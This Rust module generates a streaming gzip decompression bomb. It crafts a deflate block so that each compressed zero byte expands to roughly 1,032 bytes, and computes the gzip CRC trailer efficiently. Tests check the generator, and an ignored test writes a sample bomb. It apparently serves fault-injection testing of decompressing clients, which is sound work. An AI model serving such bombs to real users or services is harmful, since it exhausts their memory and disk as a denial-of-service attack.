//! A gzip bomb generated on the fly: one dynamic-Huffman deflate block (RFC 1951 §3.2.7)
//! whose codes make "copy 258 bytes from distance 1" cost **two zero bits**, so after a short
//! prefix the compressed stream is nothing but `0x00` bytes, each expanding to 1 032 zero
//! bytes (the deflate maximum). [`Bomb`] yields the stream in chunks without ever holding it;
//! the gzip trailer (CRC-32 and size of the expanded data) is computed in O(log n) with the
//! GF(2) matrix method zlib's `crc32_combine` uses.

/// Writes bits LSB-first, as deflate packs them.
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn new() -> Bits {
        Bits {
            out: Vec::new(),
            acc: 0,
            n: 0,
        }
    }

    /// `value`'s low `len` bits, least significant first (header fields, extra bits).
    fn put(&mut self, value: u32, len: u32) {
        self.acc |= u64::from(value) << self.n;
        self.n += len;
        while self.n >= 8 {
            self.out.push((self.acc & 0xff) as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    /// A Huffman code, most significant bit first (RFC 1951 §3.1.1).
    fn code(&mut self, code: u32, len: u32) {
        let mut rev = 0;
        for i in 0..len {
            rev |= ((code >> i) & 1) << (len - 1 - i);
        }
        self.put(rev, len);
    }
}

/// Code-length alphabet codes (canonical for lengths 18→1, 1→2, 2→2).
const CL_18: (u32, u32) = (0b0, 1);
const CL_1: (u32, u32) = (0b10, 2);
const CL_2: (u32, u32) = (0b11, 2);
/// Literal/length codes (canonical for lengths 285→1, 0→2, 256→2).
const LIT_0: (u32, u32) = (0b10, 2);
const END: (u32, u32) = (0b11, 2);

/// The stream up to and including the first literal, and the pending bits.
fn prefix() -> Bits {
    let mut b = Bits::new();
    // gzip member header (RFC 1952 §2.3): magic, CM=8, no flags, mtime 0, XFL 0, OS 255.
    b.out
        .extend_from_slice(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
    b.put(1, 1); // BFINAL
    b.put(2, 2); // BTYPE = dynamic Huffman
    b.put(286 - 257, 5); // HLIT: literal/length codes 0..=285
    b.put(2 - 1, 5); // HDIST: distance codes 0 and 1 (both 1 bit: a complete code)
                     // HCLEN: all 19 code-length codes are listed (18 would do; the 19th, three zero bits,
                     // makes the prefix an even number of bits, so the payload is whole two-bit pairs).
    b.put(19 - 4, 4);
    let order = [
        16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15,
    ];
    for sym in order {
        let len = match sym {
            18 => 1,
            1 | 2 => 2,
            _ => 0,
        };
        b.put(len, 3);
    }
    // Code lengths of 286 literal/length + 2 distance symbols:
    // 0:2, 1..=255:0, 256:2, 257..=284:0, 285:1, dist 0:1, dist 1:1.
    let zeros = |b: &mut Bits, mut n: u32| {
        while n > 0 {
            let run = n.min(138);
            b.code(CL_18.0, CL_18.1);
            b.put(run - 11, 7);
            n -= run;
        }
    };
    b.code(CL_2.0, CL_2.1);
    zeros(&mut b, 255);
    b.code(CL_2.0, CL_2.1);
    zeros(&mut b, 28);
    for _ in 0..3 {
        b.code(CL_1.0, CL_1.1);
    }
    // Data: one literal zero byte; then every "length 258 (code 285, 1 bit '0'), distance 1
    // (distance code 0, 1 bit '0')" pair is two zero bits.
    b.code(LIT_0.0, LIT_0.1);
    b
}

/// A streaming gzip bomb with `blocks` bytes of compressed payload (each about 1 032 bytes
/// expanded), yielded in chunks of at most 64 KiB.
#[derive(Debug)]
pub struct Bomb {
    head: Option<Vec<u8>>,
    first_payload_byte: u8,
    left: u64,
    tail: Option<Vec<u8>>,
    /// Size of the data the bomb expands to.
    pub expanded: u64,
}

impl Bomb {
    pub fn new(blocks: u64) -> Bomb {
        assert!(blocks >= 1);
        let mut b = prefix();
        let head = std::mem::take(&mut b.out);
        // The first payload byte completes the prefix's last byte; the rest of it, and every
        // later payload byte, are zero bits: (length 258, distance 1) pairs of two bits.
        let first_payload_byte = (b.acc & 0xff) as u8;
        assert!(
            b.n.is_multiple_of(2),
            "prefix must end on a two-bit boundary"
        );
        let pairs = (8 * blocks - u64::from(b.n)) / 2;
        let expanded = 1 + 258 * pairs;
        // After the payload the stream is byte-aligned: end-of-block, pad, gzip trailer.
        let mut t = Bits::new();
        t.code(END.0, END.1);
        t.put(0, 8 - t.n);
        let mut tail = t.out;
        tail.extend_from_slice(&crc32_of_zeros(expanded).to_le_bytes());
        tail.extend_from_slice(&((expanded & 0xffff_ffff) as u32).to_le_bytes());
        Bomb {
            head: Some(head),
            first_payload_byte,
            left: blocks,
            tail: Some(tail),
            expanded,
        }
    }
}

impl Iterator for Bomb {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        if let Some(mut head) = self.head.take() {
            // The first payload byte also carries the prefix's pending bits.
            head.push(self.first_payload_byte);
            self.left -= 1;
            return Some(head);
        }
        if self.left > 0 {
            let n = self.left.min(64 * 1024);
            self.left -= n;
            return Some(vec![0u8; n as usize]);
        }
        self.tail.take()
    }
}

fn gf2_times(mat: &[u32; 32], mut vec: u32) -> u32 {
    let mut sum = 0;
    let mut i = 0;
    while vec != 0 {
        if vec & 1 != 0 {
            sum ^= mat[i];
        }
        vec >>= 1;
        i += 1;
    }
    sum
}

fn gf2_square(mat: &[u32; 32]) -> [u32; 32] {
    let mut sq = [0u32; 32];
    for (n, s) in sq.iter_mut().enumerate() {
        *s = gf2_times(mat, mat[n]);
    }
    sq
}

/// CRC-32 (IEEE, as gzip uses it) of `len` zero bytes, in O(log len).
pub fn crc32_of_zeros(len: u64) -> u32 {
    // The operator that feeds one zero bit into the (reflected) CRC register.
    let mut op = [0u32; 32];
    op[0] = 0xedb8_8320;
    for (n, o) in op.iter_mut().enumerate().skip(1) {
        *o = 1 << (n - 1);
    }
    let mut op = gf2_square(&gf2_square(&gf2_square(&op))); // one zero byte
    let mut state = 0xffff_ffffu32;
    let mut n = len;
    while n != 0 {
        if n & 1 != 0 {
            state = gf2_times(&op, state);
        }
        op = gf2_square(&op);
        n >>= 1;
    }
    !state
}

#[cfg(test)]
mod tests {
    use super::*;

    fn crc32_slow(data: &[u8]) -> u32 {
        let mut crc = 0xffff_ffffu32;
        for &b in data {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 != 0 {
                    (crc >> 1) ^ 0xedb8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    #[test]
    fn crc_of_zeros_matches_bitwise_crc() {
        assert_eq!(crc32_of_zeros(0), 0);
        assert_eq!(crc32_of_zeros(1), 0xd202_ef8d); // crc32(b"\0")
        for n in [2usize, 3, 7, 255, 1033, 4129] {
            assert_eq!(crc32_of_zeros(n as u64), crc32_slow(&vec![0; n]), "n = {n}");
        }
    }

    #[test]
    fn bomb_is_lazy_and_tiny_per_chunk() {
        let blocks = 3 * 64 * 1024 + 5;
        let mut total = 0u64;
        let mut chunks = 0;
        for c in Bomb::new(blocks) {
            assert!(c.len() <= 64 * 1024 + 64);
            total += c.len() as u64;
            chunks += 1;
        }
        assert!(chunks >= 4);
        // head (~60 bytes) + payload + tail (≤ 9 bytes)
        assert!(total > blocks && total < blocks + 100, "{total}");
    }

    /// Writes a small bomb for checking with an independent inflater:
    /// `FAULTS_DUMP_BOMB=/tmp/b.gz cargo test --test faults dump_bomb -- --ignored` then
    /// `python3 -c 'import gzip;d=gzip.open("/tmp/b.gz").read();print(len(d),set(d))'`.
    #[test]
    #[ignore = "manual check of the generator against gzip/zlib"]
    fn dump_bomb() {
        let path = std::env::var("FAULTS_DUMP_BOMB").unwrap_or_else(|_| "/tmp/bomb.gz".into());
        let bomb = Bomb::new(1000);
        let expanded = bomb.expanded;
        let bytes: Vec<u8> = bomb.flatten().collect();
        std::fs::write(&path, bytes).unwrap();
        println!("wrote {path}: expands to {expanded} bytes");
    }
}
